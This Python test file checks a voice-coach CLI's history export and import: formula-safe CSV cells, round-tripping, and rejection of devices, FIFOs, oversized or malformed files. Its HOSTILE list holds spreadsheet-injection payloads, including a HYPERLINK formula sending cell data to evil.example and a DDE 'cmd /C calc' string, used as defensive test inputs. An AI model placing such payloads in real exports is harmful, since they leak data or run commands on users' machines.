"""history --csv/--json/--import: the practice-day column, formula-safe cells that still round
trip, the JSON import, and the import's bounds (regular files only, size, field length), through
the CLI on real SQLite files."""

from __future__ import annotations

import csv
import io
import json
import os
import threading
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.conftest import ok, vc
from voice_coach.basics.errors import SpecError
from voice_coach.practice import exchange, import_file
from voice_coach.practice.exchange import EXPORT_COLUMNS, formula_safe, unformula
from voice_coach.practice.records import SessionRecord

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|'/C calc'!A0",
           "@SUM(1+1)", "-2+3", "\t=1+1", "\r=1+1", "'=already quoted", "''+twice", "'plain"]


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("text", HOSTILE + ["", "plain", "don't", "a=b", "'"])
def test_formula_safe_cells_never_start_a_formula_and_come_back_whole(text):
    safe = formula_safe(text)
    assert safe[:1] not in ("=", "+", "-", "@", "\t", "\r")
    assert unformula(safe) == text


def test_csv_has_the_practice_day_column_by_the_configs_rollover(home):
    ok("done", "ankle-pumps", "--at", "2026-11-30 02:30")  # before 04:00: the 29th's
    ok("done", "ankle-pumps", "--at", "2026-11-30 09:00")
    rows = rows_of(ok("history", "--csv"))
    assert list(rows[0]) == list(EXPORT_COLUMNS) and EXPORT_COLUMNS[-1] == "practice_day"
    assert [r["practice_day"] for r in rows] == ["2026-11-29", "2026-11-30"]
    assert [d["practice_day"] for d in json.loads(ok("history", "--json"))] == [
        "2026-11-29", "2026-11-30"]
    config = home / "config" / "voice-coach" / "config.toml"
    config.parent.mkdir(parents=True)
    config.write_text("[practice]\nrollover_hour = 0\n")
    assert [r["practice_day"] for r in rows_of(ok("history", "--csv"))] == [
        "2026-11-30", "2026-11-30"]


def test_formulas_in_notes_are_exported_as_text_and_imported_as_written(home, tmp_path,
                                                                        monkeypatch):
    for i, note in enumerate(HOSTILE):
        ok("done", "ankle-pumps", "--at", f"2026-11-{10 + i} 09:00", "--note", note)
    exported = ok("history", "--csv")
    rows = rows_of(exported)
    assert [r["note"] for r in rows] == [
        '\'=HYPERLINK("http://evil.example/?x="&A1,"click")', "'+cmd|'/C calc'!A0",
        "'@SUM(1+1)", "'-2+3", "'\t=1+1", "'\r=1+1", "''=already quoted", "'''+twice", "'plain"]
    for row in rows:  # no cell of any column starts a formula
        assert all(cell[:1] not in ("=", "+", "-", "@", "\t", "\r") for cell in row.values())
    assert rows[0]["time_zone"] == "Europe/Berlin"
    path = tmp_path / "h.csv"
    path.write_text(exported)
    monkeypatch.setenv("VOICE_COACH_DATA_DIR", str(tmp_path / "other"))
    assert ok("history", "--import", str(path)) == f"Imported 9 sessions from {path}.\n"
    assert [d["note"] for d in json.loads(ok("history", "--json"))] == HOSTILE
    assert ok("history", "--csv") == exported  # byte for byte


def test_the_json_export_imports_too(home, tmp_path, monkeypatch):
    ok("done", "ankle-pumps", "--at", "2026-11-20 09:00", "--pain", "4", "--note", "ankle sore")
    ok("done", "bedtime", "--at", "2026-11-21 21:00", "--sets", "1", "--effort", "3")
    path = tmp_path / "h.json"
    path.write_text(ok("history", "--json"))
    before_csv = ok("history", "--csv")
    monkeypatch.setenv("VOICE_COACH_DATA_DIR", str(tmp_path / "other"))
    assert ok("history", "--import", str(path)) == f"Imported 2 sessions from {path}.\n"
    assert ok("history", "--import", str(path)).endswith("(2 already there).\n")
    assert ok("history", "--csv") == before_csv


def test_a_bad_json_import_is_located_per_session(home, tmp_path):
    ok("done", "ankle-pumps", "--at", "2026-11-20 09:00")
    good = json.loads(ok("history", "--json"))[0]
    path = tmp_path / "bad.json"
    path.write_text(json.dumps([good, {**good, "id": "x", "done_sets": "three"},
                                {**good, "id": "y", "colour": "red"}, [1, 2]], indent=1))
    result = vc("history", "--import", str(path))
    assert result.exit_code == 2, result.output
    lines = result.stderr.splitlines()
    starts = [i + 1 for i, text in enumerate(path.read_text().splitlines()) if text == " {"]
    assert lines[0] == f"{path}:{starts[1]}:2: error: 'done_sets' must be a whole number, got " \
                       "'three'"
    assert lines[1] == f"{path}:{starts[2]}:2: error: this is not a voice-coach session: " \
                       "unknown key 'colour'"
    assert lines[3].startswith(f"{path}:") and "must be an object" in lines[3]
    assert lines[-1] == "3 errors"
    path.write_text('[{"routine": "a",')
    result = vc("history", "--import", str(path))
    assert result.exit_code == 2 and "error: this is not valid JSON" in result.stderr
    path.write_text("[" * 5000 + "]" * 5000)
    result = vc("history", "--import", str(path))
    assert result.exit_code == 2, result.output
    assert result.stderr.startswith(f"{path}:1:2: error: ")
    assert "Traceback" not in result.output
    assert len(ok("history", "--csv").splitlines()) == 2  # nothing imported


def test_import_refuses_devices_folders_and_fifos_without_reading_them(home, tmp_path):
    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    for path, kind in (("/dev/zero", "a device"), (str(tmp_path), "a folder"),
                       (str(fifo), "a pipe (FIFO)")):
        result = vc("history", "--import", path)
        assert result.exit_code == 2, result.output
        assert result.stderr == (
            f"error: {path} is {kind}, not a file I can import\n"
            "  hint: give the CSV or JSON file that `voice-coach history --csv` or --json "
            "wrote; to read standard input, give '-'\n")
    missing = vc("history", "--import", str(tmp_path / "nope.csv"))
    assert missing.exit_code == 2 and missing.stderr == f"error: {tmp_path / 'nope.csv'} " \
                                                        "not found\n"


def test_import_reads_standard_input_only_when_told_with_a_dash(home, tmp_path,
                                                                monkeypatch):
    ok("done", "ankle-pumps", "--at", "2026-11-20 09:00")
    exported = ok("history", "--csv")
    monkeypatch.setenv("VOICE_COACH_DATA_DIR", str(tmp_path / "other"))
    result = vc_input(exported, "history", "--import", "-")
    assert result.exit_code == 0, result.output
    assert result.stdout == "Imported 1 session from -.\n"


def vc_input(text: str, *args: str):
    from typer.testing import CliRunner

    from voice_coach.cli import app

    return CliRunner().invoke(app, list(args), input=text)


def test_import_size_bound(home, tmp_path, monkeypatch):
    monkeypatch.setattr(import_file, "MAX_IMPORT_BYTES", 1000)
    path = tmp_path / "big.csv"
    path.write_text(",".join(EXPORT_COLUMNS) + "\n" + "x" * 1000 + "\n")
    result = vc("history", "--import", str(path))
    assert result.exit_code == 2
    assert result.stderr.startswith(f"error: {path} is larger than 0 MB")
    big = vc_input("y" * 2000, "history", "--import", "-")
    assert big.exit_code == 2 and big.stderr.startswith("error: standard input is larger")


def test_a_long_field_is_a_located_error_not_a_csv_traceback(home, tmp_path):
    ok("done", "ankle-pumps", "--at", "2026-11-20 09:00")
    exported = ok("history", "--csv")
    path = tmp_path / "long.csv"
    for size in (131_073, exchange.MAX_FIELD_CHARS + 1):
        path.write_text(exported + exported.splitlines()[1].replace("done,", "done,\"" + "n" * size
                                                                    + "\"x,", 1) + "\n")
        result = vc("history", "--import", str(path))
        assert result.exit_code == 2, result.output
        assert result.stderr == (
            f"{path}:3:1: error: a value is longer than 10,000 characters\n"
            "  hint: the longest a history column holds is the note, 2,000 characters; is this "
            "the file you meant?\n")
    path.write_bytes(exported.encode() + b"\xff\xfe broken\n")
    result = vc("history", "--import", str(path))
    assert result.exit_code == 2 and result.stderr.startswith(
        f"{path}:3:1: error: this is not UTF-8 text")


def test_years_out_of_range_are_refused_on_import(home, tmp_path):
    ok("done", "ankle-pumps", "--at", "2026-11-20 09:00")
    (good,) = rows_of(ok("history", "--csv"))
    path = tmp_path / "years.csv"
    with open(path, "w", newline="") as out:
        writer = csv.DictWriter(out, fieldnames=list(EXPORT_COLUMNS))
        writer.writeheader()
        writer.writerow({**good, "id": "a", "started": "0900-11-20T09:00:00+01:00"})
        writer.writerow({**good, "id": "b", "started": "9999-11-20T09:00:00+01:00",
                         "ended": "9999-11-20T09:05:00+01:00"})
    result = vc("history", "--import", str(path))
    assert result.exit_code == 2
    col = EXPORT_COLUMNS.index("started") + 1
    first, second = result.stderr.splitlines()[:2]
    assert first == f"{path}:2:{col}: error: 'started' is in the year 900, before 1970"
    assert second.startswith(f"{path}:3:{col}: error: 'started' ") and "9999" in second


def test_a_fifo_is_refused_without_waiting_for_a_writer(tmp_path):
    fifo = tmp_path / "late.csv"
    os.mkfifo(fifo)
    done = threading.Event()
    errors: list[str] = []

    def run():
        try:
            import_file.read_export(fifo)
        except Exception as exc:  # noqa: BLE001 - the message is the assertion
            errors.append(str(exc))
        done.set()

    threading.Thread(target=run, daemon=True).start()
    assert done.wait(30)
    assert errors == [f"{fifo} is a pipe (FIFO), not a file I can import"]


# -- properties (hypothesis) -------------------------------------------------------------------

NOTE_TEXT = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"),
                    max_size=300)


def session(note: str, title: str = "Ankle pumps") -> SessionRecord:
    started = datetime(2026, 11, 20, 9, 0, tzinfo=ZoneInfo("Europe/Berlin"))
    return SessionRecord("a" * 32, "ankle-pumps", title, "", "en", "", started,
                         started + timedelta(minutes=5), "Europe/Berlin", 3, 3, 30, 30,
                         "completed", "done", None, 2, note)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(note=NOTE_TEXT, title=st.sampled_from(["=1+1", "+x", "-", "@a", "'=b", "T", "\t=c"]))
def test_any_note_survives_the_csv_round_trip_and_no_cell_starts_a_formula(note, title):
    text = exchange.to_csv([session(note, title)])
    for row in csv.reader(io.StringIO(text, newline="")):
        assert all(cell[:1] not in ("=", "+", "-", "@", "\t", "\r") for cell in row)
    (back,) = exchange.from_csv(text, "h.csv")
    assert back.note == note and back.title == title.strip()


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.data())
def test_a_damaged_export_is_refused_with_located_errors_never_a_traceback(data):
    good = exchange.to_csv([session("fine")]) if data.draw(st.booleans()) else \
        exchange.to_json([session("fine")])
    cut = data.draw(st.integers(0, len(good)))
    junk = data.draw(st.text(max_size=40))
    text = good[:cut] + junk + good[cut + data.draw(st.integers(0, 20)):]
    try:
        records = exchange.from_text(text, "h.x")
    except SpecError as exc:
        assert exc.diagnostics and all(d.line >= 1 and d.col >= 1 for d in exc.diagnostics)
    else:
        assert all(isinstance(r, SessionRecord) for r in records)


def test_dev_stdin_is_refused_unless_the_name_is_a_dash(home, tmp_path):
    """`--import /dev/stdin` from a pipe or a terminal would wait or read without end; '-' is
    the way to say standard input (and reads at most the size bound)."""
    import subprocess
    import sys

    ok("done", "ankle-pumps", "--at", "2026-11-20 09:00")
    exported = ok("history", "--csv")
    env = {**os.environ, "VOICE_COACH_DATA_DIR": str(tmp_path / "piped")}
    command = [sys.executable, "-m", "voice_coach", "history", "--import"]
    piped = subprocess.run([*command, "/dev/stdin"], input=exported, capture_output=True,
                           text=True, env=env, timeout=120)
    assert piped.returncode == 2
    assert piped.stderr.startswith("error: /dev/stdin is a pipe (FIFO), not a file I can import")
    dashed = subprocess.run([*command, "-"], input=exported, capture_output=True, text=True,
                            env=env, timeout=120)
    assert (dashed.returncode, dashed.stdout) == (0, "Imported 1 session from -.\n")


def test_an_empty_file_and_a_lone_object_say_what_they_are(home, tmp_path):
    empty, single = tmp_path / "empty.csv", tmp_path / "one.json"
    empty.write_text("")
    single.write_text('{"routine": "ankle-pumps"}')
    result = vc("history", "--import", str(empty))
    assert result.exit_code == 2 and result.stderr.startswith(
        f"{empty}:1:1: error: this is not a voice-coach history CSV: the file is empty\n")
    result = vc("history", "--import", str(single))
    assert result.exit_code == 2 and result.stderr.startswith(
        f"{single}:1:1: error: expected a list of sessions, [{{...}}, {{...}}]\n")
